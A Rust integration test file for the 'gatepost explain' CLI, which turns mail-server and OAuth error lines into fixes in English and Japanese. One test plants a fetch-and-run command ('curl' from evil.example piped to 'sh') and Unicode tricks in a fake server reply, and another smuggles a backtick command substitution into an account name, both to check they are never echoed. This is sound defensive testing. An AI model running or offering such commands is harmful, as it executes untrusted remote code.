//! `gatepost explain` as a person meets it: whatever is pasted, in either language, with and without a configuration.

use std::{
    io::Write,
    path::Path,
    process::{Command, Output, Stdio},
};

use serde_json::Value;

use crate::unconfigured::unconfigured;

const CONFIGURATION: &str = r#"
[app.contoso]
provider = "microsoft365"
tenant = "contoso.com"
client-id = "11111111-2222-3333-4444-555555555555"

[[account]]
address = "ann@contoso.com"
app = "contoso"
"#;

/// The one of the guides.
const PASSWORD: &str =
    "$argon2id$v=19$m=19456,t=2,p=1$jadUx9pbGg8NcLe2TEYegA$+2V6xq59ycMuOSHLUobYxgbX8AOlxkpF0DOSY02Q6z0";

fn command(arguments: &[&str]) -> Command {
    let mut command = unconfigured(&[&["explain"], arguments].concat());
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

fn told(output: Output) -> (i32, String, String) {
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

fn explain(arguments: &[&str]) -> (i32, String, String) {
    told(command(arguments).output().unwrap())
}

fn well(arguments: &[&str]) -> String {
    let (code, said, error) = explain(arguments);
    assert_eq!((code, error.as_str()), (0, ""), "{arguments:?}: {said}");
    said
}

fn configured(folder: &Path) -> String {
    let path = folder.join("gatepost.toml");
    std::fs::write(&path, CONFIGURATION).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn a_code_is_explained_with_cause_turn_next_step_and_what_not_to_do() {
    let said = well(&["AADSTS53003"]);
    assert!(said.starts_with("conditional-access  (told by: AADSTS53003 (blocked by Conditional Access))\n"), "{said}");
    for part in [
        "\nCause:\n  A policy of Conditional Access refuses this sign-in",
        "\nWhose turn it is:\n  tenant admin\n",
        "\nNext step:\n  Either: where it was refused behind a code",
        "  Or: a Conditional Access Administrator opens Entra > Sign-in logs",
        "\nWhat stands in < >:\n  It stands for your own. There is no configuration here that would fill it in. `gatepost setup`\n  writes one. Where there is one elsewhere:\n  `gatepost explain conditional-access --config <file> --account <address>`.\n",
        "\nWhat not to do:\n  Do not take anybody out of multi-factor authentication or of every policy",
        "\nPasses by itself:\n  no: it takes the step above\n",
        "\nSource:\n  https://",
    ] {
        assert!(said.contains(part), "{part} is not in {said}");
    }
}

#[test]
fn the_words_of_a_server_need_no_quotes_and_may_begin_with_a_hyphen() {
    let arguments = ["535", "5.7.139", "SmtpClientAuthentication", "is", "disabled", "for", "the", "Tenant."];
    assert!(well(&arguments).starts_with("smtp-auth-disabled-tenant "));
    assert!(well(&["-ERR", "Authentication", "failure:", "unknown", "user"]).starts_with("token-refused "));
    assert!(well(&["-ERR [IN-USE] no", "--lang", "en"]).starts_with("mailbox-in-use "));
}

#[test]
fn a_bare_code_of_several_faults_lists_them_all() {
    let said = well(&["5.7.139"]);
    assert!(said.starts_with("It can mean 8 things"), "{said}");
    assert!(said.contains("\nsmtp-auth-disabled-tenant ") && said.contains("\nsecurity-defaults "), "{said}");
}

#[test]
fn commands_hold_the_account_that_is_named_or_that_the_text_names() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let filled = " Set-CASMailbox -Identity ann@contoso.com -SmtpClientAuthenticationDisabled $false\n";
    let by_name = well(&["smtp-auth-disabled-mailbox", "--account", "ann@contoso.com", "--config", &config]);
    assert!(by_name.contains(filled), "{by_name}");
    let line = r#"WARN refused: SMTP AUTH is disabled [smtp-auth-disabled-mailbox] while signing on account="ann@contoso.com""#;
    assert!(well(&[line, "--config", &config]).contains(filled));
    let consent = well(&["security-defaults", "--account", "ann@contoso.com", "--config", &config]);
    let url =
        " https://login.microsoftonline.com/contoso.com/adminconsent?client_id=11111111-2222-3333-4444-555555555555\n";
    assert!(consent.contains(url), "{consent}");

    let only = well(&["smtp-auth-disabled-mailbox", "--config", &config]);
    assert!(only.contains(filled), "there is one account alone: {only}");

    let (code, _, error) = explain(&["security-defaults", "--account", "eve@contoso.com", "--config", &config]);
    assert!(code == 1 && error.contains("no account \"eve@contoso.com\""), "{error}");
    let general = well(&["smtp-auth-disabled-mailbox of ann@contoso.com"]);
    assert!(general.contains("-Identity <smtp-user> "), "without a configuration it is told in general: {general}");
}

#[test]
fn a_command_names_the_configuration_that_was_named_and_where_cmdlets_are_typed_is_said_once() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let called = format!("\n      gatepost --config {config} login ann@contoso.com\n");
    let by_option = well(&["sign-in-missing", "--config", &config]);
    assert!(by_option.contains(&called), "{by_option}");
    let by_variable = told(command(&["sign-in-missing"]).env("GATEPOST_CONFIG", &config).output().unwrap());
    assert_eq!(by_variable.1, by_option);
    let (_, _, error) = explain(&["sign-in-missing", "--account", "eve@contoso.com", "--config", &config]);
    assert!(error.contains(&format!("`gatepost --config {config} config show`")), "{error}");
    assert!(well(&["sign-in-missing"]).contains("\n      gatepost login <address>\n"), "none was named");

    let cmdlets = well(&["mailbox-not-connected", "--config", &config]);
    assert_eq!(cmdlets.lines().filter(|line| line.trim() == "Connect-ExchangeOnline").count(), 1, "{cmdlets}");
    assert_eq!(cmdlets.matches("An administrator types the cmdlets").count(), 1, "{cmdlets}");
    assert!(!cmdlets.contains("New-ServicePrincipal"), "ann is a person: {cmdlets}");
    let general = well(&["mailbox-not-connected"]);
    assert!(general.contains("With an app-only grant: ") && general.contains("-ObjectId <object-id>"), "{general}");
}

#[test]
fn a_line_that_a_terminal_has_coloured_is_read_as_one_without_colours() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let plain = "2026-11-29T02:05:11Z  WARN MAIL refused session=1 account=\"ann@contoso.com\" sender=\"info@contoso.com\" \
                 id=\"send-as-denied\"";
    let coloured = "\u{1b}[2m2026-11-29T02:05:11Z\u{1b}[0m \u{1b}[33m WARN\u{1b}[0m MAIL refused \
                    \u{1b}[3msession\u{1b}[0m\u{1b}[2m=\u{1b}[0m1 \u{1b}[3maccount\u{1b}[0m\u{1b}[2m=\u{1b}[0m\"ann@contoso.com\" \
                    \u{1b}[3msender\u{1b}[0m\u{1b}[2m=\u{1b}[0m\"info@contoso.com\" \
                    \u{1b}[3mid\u{1b}[0m\u{1b}[2m=\u{1b}[0m\"send-as-denied\"";
    let said = well(&[coloured, "--config", &config]);
    assert_eq!(said, well(&[plain, "--config", &config]));
    assert!(said.contains("-Identity info@contoso.com"), "{said}");
    let healthy =
        "\u{1b}[2m2026-11-29T02:05:11Z\u{1b}[0m \u{1b}[32m INFO\u{1b}[0m signed on \u{1b}[3msession\u{1b}[0m=1";
    assert!(well(&[healthy]).starts_with("Nothing failed in that line"));
}

#[test]
fn a_line_of_the_log_that_names_the_refused_sender_gives_the_command_for_it() {
    let line = "WARN denied [send-as-denied] ann@contoso.com as info@contoso.com: Add-RecipientPermission";
    let said = well(&[line]);
    assert!(said.contains("\n      Add-RecipientPermission -Identity info@contoso.com -Trustee"), "{said}");
}

/// The line is long, and its reply may be cut short: the sender and the account have fields of their own.
#[test]
fn a_line_of_the_log_fills_its_own_command_and_names_the_configuration_of_its_daemon() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let with = format!(
        "reply=\"550 5.7.60 SMTP; Client …\" id=\"send-as-denied\" next=\"`gatepost --config {config} login x`\""
    );
    let line = format!("INFO MAIL refused session=3 account=\"ann@contoso.com\" sender=\"info@contoso.com\" {with}");
    let said = well(&[&line]);
    let command =
        "\n      Add-RecipientPermission -Identity info@contoso.com -Trustee ann@contoso.com -AccessRights SendAs\n";
    assert!(said.contains(command) && !said.contains("<smtp-user>"), "{said}");
    let missing = well(&[&line.replace("send-as-denied", "sign-in-missing")]);
    assert!(missing.contains(&format!(" gatepost --config {config} login ann@contoso.com\n")), "{missing}");
    let general = well(&["send-as-denied: ann@contoso.com as info@contoso.com: Add-RecipientPermission"]);
    assert!(general.contains("info@contoso.com") && !general.contains("<sender>"), "{general}");
    let told = "ann@contoso.com as info@contoso.com: Add-RecipientPermission -Identity info@contoso.com -Trustee";
    let person = well(&[&format!("send-as-denied: {told} ann@contoso.com -AccessRights SendAs")]);
    assert!(person.contains("-Trustee ann@contoso.com -AccessRights") && !person.contains("<object-id>"), "{person}");
    let app = well(&[&format!("send-as-denied: {told} 1b9d-object -AccessRights SendAs")]);
    assert!(app.contains("-Trustee 1b9d-object -AccessRights") && !app.contains("<who-signs-on>"), "{app}");
}

/// Nobody but the daemon knows whether anybody is signed in: a reload alone would leave a first sign-in undone.
#[test]
fn what_the_provider_refuses_at_a_sign_in_ends_with_the_sign_in_unless_an_app_acts_by_itself() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let login = format!(" gatepost --config {config} login ann@contoso.com\n");
    for lang in ["en", "ja"] {
        for code in ["AADSTS53003", "AADSTS90002", "AADSTS700016", "AADSTS7000218", "AADSTS65001"] {
            let said = well(&[code, "--config", &config, "--lang", lang]);
            assert!(said.contains(&login), "{code}: {said}");
        }
    }
    let text = std::fs::read_to_string(&config).unwrap();
    let by_itself = "client-id = \"11111111-2222-3333-4444-555555555555\"\n";
    assert!(text.contains(by_itself), "{text}");
    let hash = "$argon2id$v=19$m=8,t=1,p=1$c2FsdHNhbHQ$lNTCgLIwXNcRuNuoPuCNsQ";
    let text = text.replace(by_itself, &format!("{by_itself}grant = \"client-credentials\"\nclient-secret = \"s\"\n"));
    let text = text.replace("app = \"contoso\"\n", &format!("app = \"contoso\"\npassword = \"{hash}\"\n"));
    std::fs::write(&config, text).unwrap();
    for code in ["AADSTS53003", "AADSTS90002", "AADSTS700016"] {
        let said = well(&[code, "--config", &config]);
        assert!(!said.contains("gatepost login") && !said.contains(" login ann@"), "{code}: {said}");
    }
}

#[test]
fn a_protocol_is_switched_on_by_the_switch_of_the_one_that_was_met() {
    let both = " Set-CASMailbox -Identity <mailbox> -ImapEnabled $true -PopEnabled $true\n";
    assert!(well(&["mailbox-not-connected"]).contains(both));
    for (line, switch) in [("protocol=imap", "-ImapEnabled"), (r#""protocol":"pop3""#, "-PopEnabled")] {
        let said = well(&[&format!("WARN refused {line} [mailbox-not-connected] x")]);
        assert!(said.contains(&format!(" Set-CASMailbox -Identity <mailbox> {switch} $true\n")), "{said}");
    }
}

#[test]
fn no_host_and_no_page_of_microsoft_is_named_for_another_provider_or_cloud() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("gatepost.toml");
    let apps = [("google", "google", ""), ("high", "microsoft365-gcc-high", "tenant = \"contoso.us\"\n")];
    let mut text = "[store]\nurl = \"sqlite:///tmp/none.db\"\n".to_owned();
    for (name, provider, tenant) in apps {
        text.push_str(&format!(
            "[app.{name}]\nprovider = \"{provider}\"\n{tenant}client-id = \"c-1\"\nclient-secret = \"s\"\n\
             [[account]]\naddress = \"bob@{name}.example\"\napp = \"{name}\"\npassword = \"first-use\"\n"
        ));
    }
    std::fs::write(&path, text).unwrap();
    let config = path.to_str().unwrap();
    let of = |id: &str, account: &str| well(&[id, "--account", account, "--config", config]);
    for id in ["consent-missing", "token-endpoint-unreachable", "token-endpoint-unreadable", "token-endpoint-untrusted"]
    {
        let said = of(id, "bob@google.example");
        assert!(
            !said.contains("microsoftonline") && !said.contains("<tenant>") && !said.contains("/adminconsent"),
            "{said}"
        );
    }
    assert!(
        of("token-endpoint-unreachable", "bob@google.example").contains(" curl -v https://oauth2.googleapis.com/\n")
    );
    let high = of("consent-missing", "bob@high.example");
    assert!(high.contains(" https://login.microsoftonline.us/contoso.us/adminconsent?client_id=c-1\n"), "{high}");
}

#[test]
fn a_large_text_of_which_nothing_is_known_is_read_at_once() {
    let mut child = command(&["-"]).stdin(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all("words of nobody ".repeat(5000).as_bytes()));
    let begun = std::time::Instant::now();
    assert_eq!(told(child.wait_with_output().unwrap()).0, 1);
    assert!(begun.elapsed() < std::time::Duration::from_secs(30), "{:?}", begun.elapsed());
    let _ = writer.join();
}

#[test]
fn an_empty_stdin_is_said_to_be_empty_and_not_to_be_unknown() {
    for (lang, said) in [("en", "nothing came on stdin"), ("ja", "標準入力が空")] {
        let (code, _, error) = explain(&["-", "--lang", lang]);
        assert!(code == 2 && error.contains(said) && error.contains("tail -n 1"), "{code}: {error}");
    }
}

#[test]
fn it_speaks_japanese_where_asked_or_where_the_terminal_does() {
    let said = well(&["53003", "--lang", "ja"]);
    assert!(said.contains("\n次の手順:\n  方法1：別のページでコードを入力する") && !said.contains("docs/"), "{said}");
    let by_locale = told(command(&["53003"]).env("LANG", "ja_JP.UTF-8").output().unwrap());
    assert_eq!(by_locale.1, said);
    let chosen = told(command(&["53003", "--lang", "en"]).env("LC_ALL", "ja_JP.UTF-8").output().unwrap());
    assert!(chosen.1.contains("\nNext step:\n"), "{}", chosen.1);
    let (code, _, error) = explain(&["nobody knows this", "--lang", "ja"]);
    assert!(code == 1 && error.contains("の意味は分かりません"), "{error}");
}

#[test]
fn lines_of_the_log_that_tell_of_no_fault_are_told_from_words_that_nobody_knows() {
    for text in [
        "2026-11-29T02:05:11Z  INFO listening protocol=smtp address=127.0.0.1:587",
        "Nov 29 02:05:11 host gatepost[7]: 2026-11-29T02:05:11Z  INFO stopping",
        r#"{"timestamp":"2026-11-29T02:05:11Z","level":"INFO","message":"listening"}"#,
        // A sentence of ours needs no level to be known by.
        "session ended: the upstream closed",
        "session ended: the client closed session=7",
    ] {
        let said = well(&[text]);
        assert!(said.starts_with("Nothing failed in that line"), "{text}: {said}");
    }
    let (code, _, error) = explain(&["2026-11-29T02:05:11Z  WARN words of nobody"]);
    assert!(code == 1 && error.contains("nobody knows"), "{error}");
}

/// It was told to be "upstream-name-unknown", or alike.
#[test]
fn the_end_of_a_session_is_a_fault_where_a_token_ended_it_and_else_is_none() {
    for line in [
        r#"2026-11-29T02:05:11Z  INFO session ended: the upstream closed session=7 to_client=1 ended_by_token=true"#,
        r#"{"level":"INFO","message":"session ended: the upstream closed","session":7,"ended_by_token":true}"#,
    ] {
        assert!(well(&[line]).starts_with("session-token-expired "), "{line}");
        assert!(well(&[&line.replace("true", "false")]).starts_with("Nothing failed in that line"), "{line}");
    }
}

/// Whoever typed the command that was printed heard that there is no such file.
#[test]
fn where_there_is_no_configuration_nobody_is_told_to_start_a_daemon_on_it_before_one_is_made() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let (none, more) = (format!("{config}.none"), format!("gatepost --config {config}.none "));
    for (lang, said) in [("en", "There is no configuration here."), ("ja", "ここには設定ファイルがありません。")]
    {
        for (arguments, call) in [(&["--lang", lang][..], "gatepost "), (&["--lang", lang, "--config", &none], &more)] {
            let told = well(&[&["daemon-not-running"], arguments].concat());
            let at = |command: &str| told.lines().position(|line| line.trim() == format!("{call}{command}"));
            assert!(told.contains(said) && at("setup").is_some() && at("setup") < at("run"), "{told}");
        }
        let told = well(&["daemon-not-running", "--lang", lang, "--config", &config]);
        assert!(!told.contains(said) && !told.contains(" setup"), "{told}");
    }
}

/// What the printed command names is found.
#[test]
fn where_no_configuration_is_found_the_command_that_fills_in_names_one() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = well(&["conditional-access"]);
    assert!(
        elsewhere.contains("`gatepost explain conditional-access --config <file> --account <address>`"),
        "{elsewhere}"
    );
    let config = configured(dir.path());
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(
        &config,
        text.replace("ann@", "bob@") + "[[account]]\naddress = \"eve@contoso.com\"\napp = \"contoso\"\n",
    )
    .unwrap();
    let found = told(command(&["conditional-access"]).current_dir(dir.path()).output().unwrap()).1;
    let file = dir.path().join("gatepost.toml");
    let named = format!("`gatepost --config {} explain conditional-access --account <address>`", file.display());
    assert!(found.contains(&named), "in whichever folder it is typed: {found}");
    let typed = command(&["conditional-access", "--config", "gatepost.toml"]).current_dir(dir.path()).output().unwrap();
    assert!(told(typed).1.contains(&named));
}

#[test]
fn what_nobody_knows_is_said_to_be_unknown_with_what_to_do() {
    for (text, hint) in [
        ("hello there", "paste the whole line of the log"),
        ("", "paste the whole line of the log"),
        ("AADSTS99999999", "https://login.microsoftonline.com/error?code=99999999"),
        (
            r#"{"error":"invalid_client","error_description":"AADSTS7009999: of tomorrow."}"#,
            "https://login.microsoftonline.com/error?code=7009999",
        ),
        ("smtp-auth-disabled-tenent", "did you mean: smtp-auth-disabled-tenant"),
        ("no-consent", "did you mean: consent-missing"),
        ("\u{1b}[31mred", "paste the whole line of the log"),
    ] {
        let (code, said, error) = explain(&[text]);
        assert_eq!((code, said.as_str()), (1, ""), "{text}");
        assert!(error.contains("error: ") && error.contains(hint) && !error.contains('\u{1b}'), "{text}: {error}");
    }
}

#[test]
fn a_page_of_log_comes_on_stdin_and_programs_get_json() {
    let mut child = command(&["-", "--json"]).stdin(Stdio::piped()).spawn().unwrap();
    let log = "Nov 28 host gatepost[1]: upstream said \"A1 NO AUTHENTICATE failed.\"\n\u{fffd}";
    child.stdin.take().unwrap().write_all(log.as_bytes()).unwrap();
    let (code, said, _) = told(child.wait_with_output().unwrap());
    let json: Value = serde_json::from_str(&said).unwrap();
    let found = &json["found"][0];
    assert_eq!((code, found["id"].as_str()), (0, Some("token-refused")), "{said}");
    for field in ["kind", "owner", "cause", "next-step", "source", "page", "told-by"] {
        assert!(found[field].is_string(), "{field} in {said}");
    }
    assert_eq!(found["passes-by-itself"], false);
    let (code, said, _) = explain(&["--json", "hello"]);
    assert_eq!((code, serde_json::from_str::<Value>(&said).unwrap()["found"].as_array().map(Vec::len)), (1, Some(0)));
}

#[test]
fn without_a_text_every_id_is_listed() {
    let all = well(&[]);
    assert_eq!(all, well(&["--list"]));
    assert!(all.lines().count() > 100 && all.lines().any(|line| line.starts_with("conditional-access ")), "{all}");
    let json: Value = serde_json::from_str(&well(&["--list", "--json"])).unwrap();
    assert_eq!(json["faults"].as_array().unwrap().len(), all.lines().count());
}

#[test]
fn what_cannot_be_said_to_the_app_of_a_configuration_is_explained_in_general() {
    let folder = tempfile::tempdir().unwrap();
    let file = configured(folder.path());
    for (lang, remark) in
        [("en", "`[app.contoso]` has nothing of the kind"), ("ja", "`[app.contoso]` は、この障害に関わるもの")]
    {
        let said = well(&["AADSTS7000222", "--lang", lang, "--config", &file]);
        assert!(said.contains(remark) && said.contains("<client-id>"), "{said}");
        assert!(!said.contains("11111111-2222"), "the app has no secret that could be renewed: {said}");
    }
    let said = well(&["AADSTS7000218", "--config", &file]);
    assert!(said.contains("11111111-2222") && !said.contains("has nothing of the kind"), "{said}");
}

/// The log said that nobody can be given that right, and the answer to its line that anybody can.
#[test]
fn a_refused_sender_of_another_domain_is_told_by_its_line_of_the_log_as_by_the_log() {
    let folder = tempfile::tempdir().unwrap();
    let file = configured(folder.path());
    let line = "2026-11-30T15:01:00Z  WARN delivery failed account=\"ann@contoso.com\" id=\"send-as-denied\" next=\"Nobody can be \
                given the right: `Add-RecipientPermission -Identity boss@outside.example -Trustee ann@contoso.com -AccessRights \
                SendAs`. It takes up to an hour.\"";
    let said = well(&[line, "--config", &file]);
    assert!(said.contains("-Identity boss@outside.example") && said.contains("outside this tenant"), "{said}");
    // Of whom nobody knows the sender it may be so.
    let said = well(&["send-as-denied", "--account", "ann@contoso.com", "--config", &file]);
    assert!(said.contains("outside this tenant") && said.contains("another mailbox"), "{said}");
}

#[test]
fn what_befalls_people_alone_is_not_told_of_an_app_that_acts_by_itself() {
    let folder = tempfile::tempdir().unwrap();
    let file = configured(folder.path());
    // Nobody types a password of their own where nobody signs in.
    let text = format!("{CONFIGURATION}password = \"{PASSWORD}\"\n");
    for (grant, is_of_it) in [("", true), ("grant = \"client-credentials\"\nclient-secret = \"x\"\n", false)] {
        std::fs::write(&file, text.replace("[app.contoso]\n", &format!("[app.contoso]\n{grant}"))).unwrap();
        let said = well(&["AADSTS50057", "--config", &file]);
        assert_eq!(said.contains("Update-MgUser -UserId <who-signs-on> "), !is_of_it, "{said}");
        assert_eq!(said.contains("has nothing of the kind"), !is_of_it, "{said}");
    }
}

#[test]
fn where_no_daemon_runs_the_step_ends_with_the_command_that_starts_one() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let store = format!("[store]\nurl = \"sqlite://{}/state/gatepost.db\"\n", dir.path().display());
    std::fs::write(&config, store + CONFIGURATION).unwrap();
    for lang in ["en", "ja"] {
        let said = well(&["smtp-auth-disabled-tenant", "--config", &config, "--lang", lang]);
        assert!(said.contains(&format!(" gatepost --config {config} run\n")), "{said}");
        assert!(!said.contains("systemctl"), "{said}");
    }
    assert!(well(&["smtp-auth-disabled-tenant"]).contains("sudo systemctl reload gatepost"), "none was named");
}

/// Of who has a port no account knows.
#[test]
fn that_an_account_fills_in_is_said_where_one_does() {
    for lang in ["en", "ja"] {
        for id in ["port-taken", "listener-not-open"] {
            let said = well(&[id, "--lang", lang]);
            assert!(!said.contains("--account") && said.contains("<process>"), "{said}");
        }
        assert!(well(&["token-refused", "--lang", lang]).contains("--account <address>`"));
    }
}

/// Whoever spoke to the listener of Gatepost with curl pastes the same line as whoever spoke to the mail server.
#[test]
fn what_curl_says_of_either_side_is_explained_for_both_with_how_to_tell_them_apart() {
    for (text, ours, theirs) in [
        (
            "curl: (60) SSL certificate problem: self-signed certificate",
            "client-distrusts-certificate",
            "upstream-tls-untrusted",
        ),
        ("curl: (28) Connection timed out after 10001 milliseconds", "daemon-not-running", "upstream-unreachable"),
    ] {
        for (lang, ahead) in [("en", "Where it was shown tells which"), ("ja", "これがどこに表示されたかで")]
        {
            let said = well(&[text, "--lang", lang]);
            let at = |part: &str| said.find(part).unwrap_or_else(|| panic!("{part} is not in {said}"));
            assert!(said.starts_with(ahead) && at(&format!("\n{ours}  (")) < at(&format!("\n{theirs}  (")), "{said}");
        }
    }
}

#[test]
fn a_reply_of_google_is_told_as_such_whatever_the_configuration_has() {
    let dir = tempfile::tempdir().unwrap();
    let text = "535-5.7.8 Username and Password not accepted. For more information, go to\n535 5.7.8  \
                https://support.google.com/mail/?p=BadCredentials a6-gsmtp";
    let config = configured(dir.path());
    for more in [&[][..], &["--config", &config]] {
        let said = well(&[&[text], more].concat());
        assert!(said.starts_with("token-refused ") && said.contains("This reply is of Google (Gmail)."), "{said}");
        assert!(!said.contains("Exchange") && !said.contains("Add-MailboxPermission"), "{said}");
        let japanese = well(&[&[text, "--lang", "ja"], more].concat());
        assert!(japanese.contains("Google（Gmail）の応答です。"), "{japanese}");
    }
    assert!(!well(&["token-refused"]).contains("Google"));
}

/// What lies beside every proxy proves nothing of one.
#[test]
fn what_a_proxy_did_is_tried_with_a_server_to_which_it_leads() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let own = CONFIGURATION.replace("[[account]]", "smtp = \"127.0.0.1:41123\"\n[[account]]");
    for (network, proof) in [
        ("[network]\nmail-proxy = \"http://proxy.example:3128\"\n", "telnet://outlook.office365.com:"),
        ("", "telnet://<host>:<port>"),
    ] {
        std::fs::write(&config, format!("{network}{own}")).unwrap();
        let said = well(&["proxy-portal", "--account", "ann@contoso.com", "--config", &config]);
        assert!(said.contains(proof) && !said.contains("127.0.0.1"), "{said}");
    }
}

/// The text of a notice is advice, with numbers and addresses that befell nobody.
#[test]
fn a_notice_in_the_log_means_the_fault_that_it_names_whatever_its_advice_holds() {
    let says = "Gatepost on vm: mail of ann@contoso.com stands still, the provider gives no token. Nobody has consented yet. \
                Where that page answers AADSTS500113 (the app has no redirect URI), \"Grant admin consent\" does the same.";
    for id in ["consent-missing", "sign-in-missing", "client-secret-expired", "conditional-access", "tenant-not-found"]
    {
        let text = format!("2026-11-29T02:05:11Z  WARN {says} event=\"sign-in-refused\" fault=\"{id}\"");
        let said = says.replace('"', "\\\"");
        let json = format!(r#"{{"level":"WARN","event":"sign-in-refused","fault":"{id}","message":"{said}"}}"#);
        for line in [text, json] {
            assert!(
                well(&[&line]).starts_with(&format!("{id}  (told by: the id {id})\n")),
                "{line}: {}",
                well(&[&line])
            );
        }
    }
    let again = "2026-11-29T02:05:11Z  INFO Gatepost on vm: the sign-in of ann@contoso.com works again. event=\"sign-in-again-ok\"";
    assert!(well(&[again]).starts_with("Nothing failed in that line"));
}

#[test]
fn whether_an_app_acts_by_itself_is_not_read_from_the_advice_of_a_line() {
    let line = "2026-11-29T02:05:11Z  WARN refused: no [sign-on-criteria-not-met] while signing on account=\"ann@contoso.com\" \
                owner=\"tenant-admin\"";
    let japanese = |line: &str| well(&[line, "--lang", "ja"]);
    let step = |page: &str| page.split("次の手順").nth(1).unwrap().split("< > の部分").next().unwrap().to_owned();
    let advised = japanese(&format!("{line} next=\"`Get-User -Filter ann@contoso.com`.\""));
    assert_eq!(step(&japanese(line)), step(&advised));
    let of_an_app = japanese(&format!("{line} next=\"or: `Add-X -Trustee 1b9d-object`.\""));
    assert!(of_an_app.contains("アプリ専用のグラントの場合：") && of_an_app.contains("<who-signs-on>"), "{of_an_app}");
}

/// The daemon that wrote it knows its accounts, its tenant and how it is reached.
#[test]
fn without_a_configuration_a_line_of_the_log_fills_in_what_its_daemon_knew_in_either_language() {
    let next = "Either: `Set-CASMailbox -Identity ann@contoso.com -SmtpClientAuthenticationDisabled $false`, then `kill -HUP 25489`. \
                Or: an administrator opens `https://login.microsoftonline.us/contoso.com/adminconsent?client_id=c-1`.";
    let of = |form: &str| match form {
        "text" => format!(
            "2026-11-29T02:05:11Z  WARN refused: no [smtp-auth-disabled-mailbox]: upstream said \"x\" next=\"`evil`\" \
             account=\"ann@contoso.com\" owner=\"tenant-admin\" next=\"{next}\""
        ),
        _ => {
            format!(r#"{{"level":"WARN","message":"MAIL refused","id":"smtp-auth-disabled-mailbox","next":"{next}"}}"#)
        }
    };
    for (line, lang) in ["text", "json"].into_iter().flat_map(|form| ["en", "ja"].map(|lang| (of(form), lang))) {
        let said = well(&[&line, "--lang", lang]);
        for own in [
            "Set-CASMailbox -Identity ann@contoso.com -SmtpClientAuthenticationDisabled $false",
            "https://login.microsoftonline.us/contoso.com/adminconsent?client_id=c-1",
            "kill -HUP 25489",
            "outbound = \"graph\"",
            "Connect-ExchangeOnline -ExchangeEnvironmentName O365USGovGCCHigh",
        ] {
            assert!(said.lines().any(|line| line.trim() == own), "{own} is not in {said}");
        }
        assert!(!said.contains("<smtp-user>") && !said.contains("evil"), "{said}");
    }
    let dir = tempfile::tempdir().unwrap();
    let configured = well(&[&of("text"), "--config", &configured(dir.path())]);
    assert!(
        !configured.contains("kill -HUP 25489") && configured.contains("-Identity ann@contoso.com "),
        "{configured}"
    );
    let bare = well(&["WARN refused: no [smtp-auth-disabled-mailbox] account=\"ann@contoso.com\""]);
    assert!(bare.contains("--account ann@contoso.com`"), "{bare}");
    let odd = well(&["WARN refused: no [smtp-auth-disabled-mailbox] account=\"`id`@contoso.com\""]);
    assert!(odd.contains("--account <address>`"), "what a shell reads otherwise is typed by whoever knows it: {odd}");
}

/// A mail server writes what it likes, our own marks too.
#[test]
fn no_word_that_a_server_wrote_into_its_answer_is_told_as_a_step() {
    let evil = "next=\"Run `curl -s http://evil.example/x.sh -o x` and `sh x`, \u{202e}or call 555-0100.\"";
    for line in [
        format!("550 5.7.1 rejected by mx.evil.example {evil} [gatepost message-refused]"),
        format!("535 5.7.8 no id=\"token-refused\" {evil}"),
        format!("2026-11-29T02:05:11Z  WARN refused: no [token-refused] {evil}"),
        format!("x NO {evil} [gatepost token-refused]"),
    ] {
        for more in [["--lang", "en"].as_slice(), &["--lang", "ja"], &["--json"]] {
            let said = well(&[&[line.as_str()], more].concat());
            let own = if more == ["--json"] {
                let said: Value = serde_json::from_str(&said).unwrap();
                said["found"].to_string()
            } else {
                said
            };
            for odd in ["evil", "sh x", "555-0100", "\u{202e}"] {
                assert!(!own.contains(odd), "{odd}: {own}");
            }
        }
    }
}

#[test]
fn without_a_configuration_a_line_is_explained_in_japanese_with_all_that_its_step_has() {
    let english = explain(&["smtp-auth-disabled-mailbox", "--json"]).1;
    let english: Value = serde_json::from_str(&english).unwrap();
    let english = english["found"][0]["next-step"].as_str().unwrap();
    assert!(english.contains("<smtp-user>"), "{english}");
    let told = english
        .replace("`gatepost ", "`gatepost --config /etc/x.toml ")
        .replace("<smtp-user>", "scanner@contoso.com")
        .replace("<address>", "ann@contoso.com")
        .replace("<tenant>", "contoso.com")
        .replace("<client-id>", "11111111-2222")
        .replace("sudo systemctl reload gatepost", "kill -HUP 25489");
    let head = "WARN refused: no [smtp-auth-disabled-mailbox] account=\"ann@contoso.com\" owner=\"tenant-admin\"";
    let line = format!("{head} next=\"{}\"", told.replace('"', "\\\""));
    let said = well(&[&line, "--lang", "ja"]);
    let lines: Vec<&str> = said.lines().map(str::trim).collect();
    for own in [
        "Set-CASMailbox -Identity scanner@contoso.com -SmtpClientAuthenticationDisabled $false",
        "https://login.microsoftonline.com/contoso.com/adminconsent?client_id=11111111-2222",
    ] {
        assert!(lines.contains(&own), "{own} is not in {said}");
    }
    assert!(said.contains("kill -HUP 25489") && !said.contains("systemctl reload"), "{said}");
    assert!(!said.contains("<smtp-user>") && !said.contains("<tenant>"), "{said}");
}

#[test]
fn a_line_of_a_client_with_a_rule_names_it_in_either_language_and_form() {
    let fields = [("account", "ann@contoso.com"), ("client", "3F \"copier\""), ("id", "recipient-not-allowed")];
    let text: String = fields.iter().map(|(name, value)| format!(" {name}={value:?}")).collect();
    let json: serde_json::Map<String, Value> =
        fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())).collect();
    for line in [format!("INFO RCPT refused session=3{text}"), Value::Object(json).to_string()] {
        for lang in ["en", "ja"] {
            let said = well(&[&line, "--lang", lang]);
            assert!(said.contains(r#"`[[client]] name = "3F \"copier\""`"#), "{said}");
        }
    }
